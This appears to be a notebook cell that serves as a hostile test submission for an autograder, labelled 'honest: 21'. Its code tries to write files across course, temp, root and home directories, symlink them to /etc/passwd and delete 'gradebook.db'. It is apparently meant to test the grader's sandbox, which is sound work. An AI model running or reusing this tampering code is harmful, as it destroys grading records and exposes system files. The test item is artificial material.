# %% [markdown]
# Writes, links and deletes wherever it can, by names that it knows; all answers are right anyway.
#
# honest: 21
# reaches for the machine

# %%
import os
import pathlib

for folder in (COURSE, COURSE + "/submitted/bia", REPOSITORY, "/dev/shm", "/var/tmp", "/", os.path.expanduser("~")):
    place = pathlib.Path(folder, "degrau-was-here")
    for harm in (
        lambda place=place: place.write_text("x"),
        lambda place=place: place.mkdir(),
        lambda place=place: place.symlink_to("/etc/passwd"),
        lambda place=place: (place.parent / "gradebook.db").unlink(),
    ):
        try:
            harm()
        except OSError:
            pass
